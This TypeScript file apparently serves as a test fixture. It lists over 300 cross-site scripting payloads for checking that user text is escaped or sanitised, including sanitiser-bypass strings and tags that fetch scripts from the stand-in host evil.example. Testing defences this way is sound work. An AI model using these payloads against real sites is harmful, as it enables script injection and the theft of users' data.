/** What attackers write where a text is asked for: each would do something if it were ever taken for more than text. */

/** Runs as soon as it is parsed, or fetches from a host that no test knows. */
const MARKUP = [
  '<script>pwned()</script>',
  '<script src=//evil.example/x></script>',
  '<img src=x onerror=pwned()>',
  '<img src=//evil.example/x>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<iframe src="javascript:parent.pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data=//evil.example/x></object>',
  '<embed src=//evil.example/x>',
  '<link rel=stylesheet href=//evil.example/x>',
  '<style>@import "//evil.example/x"</style>',
  '<style>*{background:url(//evil.example/x)}</style>',
  '<body onload=pwned()>',
  '<video src=//evil.example/x onerror=pwned()></video>',
  '<audio src=x onerror=pwned()>',
  '<input autofocus onfocus=pwned()>',
  '<details open ontoggle=pwned()>',
  '<form action=javascript:pwned()><button>x</button></form>',
  '<a href="javascript:pwned()">x</a>',
  '<a href="java&#115;cript:pwned()">x</a>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/x">',
  '<div style="background:url(//evil.example/x)">x</div>',
  '<marquee onstart=pwned()>x</marquee>',
  '<table background=//evil.example/x><td>x</table>',
  // What sanitisers were led astray by: text that becomes markup when it is parsed once more.
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>',
  '<svg></p><style><a id="</style><img src=x onerror=pwned()>">',
  '<xmp><p title="</xmp><img src=x onerror=pwned()>">',
  '<template><script>pwned()</script></template>',
  '<textarea></textarea><script>pwned()</script>',
  '<title></title><img src=x onerror=pwned()>',
  '<select><option></select><img src=x onerror=pwned()>',
  '<!--><img src=x onerror=pwned()>-->',
  '<![CDATA[<img src=x onerror=pwned()>]]>',
  '<?xml <img src=x onerror=pwned()>?>',
  '&lt;img src=x onerror=pwned()&gt;',
  '&#60;img src=x onerror=pwned()&#62;',
  '<img/src=x/onerror=pwned()>',
  '<IMG SRC=x ONERROR=pwned()>',
  '<img src=x onerror=pwned()',
  '<<img src=x onerror=pwned()>',
  '<img src="x` `<img src=x onerror=pwned()>"` `>',
  '＜img src=x onerror=pwned()＞',
]

/** What ends what a text may stand in. */
const BEFORE = ['', '"', "'", '">', "'>", '</textarea>', '</title>']
// biome-ignore-start lint/suspicious/noTemplateCurlyInString: that is what is tried
const INSIDE = [
  '" onfocus=pwned() autofocus x="',
  "' onmouseover=pwned() x='",
  'javascript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'vbscript:pwned()',
  '${pwned()}',
  '{{constructor.constructor("pwned()")()}}',
  '`${pwned()}`',
  '</script><script>pwned()</script>',
  '\\"><img src=x onerror=pwned()>',
]
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: that is what is tried

/** More than 300 of them. */
export const PAYLOADS: readonly string[] = [...BEFORE.flatMap((end) => MARKUP.map((markup) => end + markup)), ...INSIDE]
